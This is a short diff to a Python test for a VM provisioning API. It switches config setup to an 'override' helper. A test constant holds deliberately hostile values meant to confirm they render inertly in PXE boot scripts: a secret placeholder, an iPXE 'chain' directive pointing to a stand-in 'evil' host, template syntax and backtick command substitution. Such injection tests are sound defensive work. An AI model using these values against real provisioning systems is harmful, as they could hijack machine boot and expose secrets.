@@ -9,6 +9,7 @@ from typing import Any
 
 from tests.api.helpers import H
 from tests.installs_helpers import ed25519_key
+from virtapi.config import override
 
 GiB = 1024**3
 PUBLIC = "http://virtapi.example.com:8080"
@@ -19,7 +20,7 @@ COMMENT = "${root-password} ; #!ipxe chain http://evil/ %{facts.x} 'q' \"d\" `cm
 def test_awkward_but_valid_values_render_inertly(
     app: Any, client: Any, api_tokens: Any, demo: Any
 ) -> None:
-    app.config.update(PXE_PUBLIC_URL=PUBLIC, PXE_ALLOWED_NETWORKS=[])
+    override(app, pxe_public_url=PUBLIC, pxe_allowed_networks=[])
     customer = H(api_tokens.customer_a)
     vm = client.post("/api/v1/vms", headers=customer, json={
         "hostname": AWKWARD_HOST, "cores": 1, "ram": GiB,
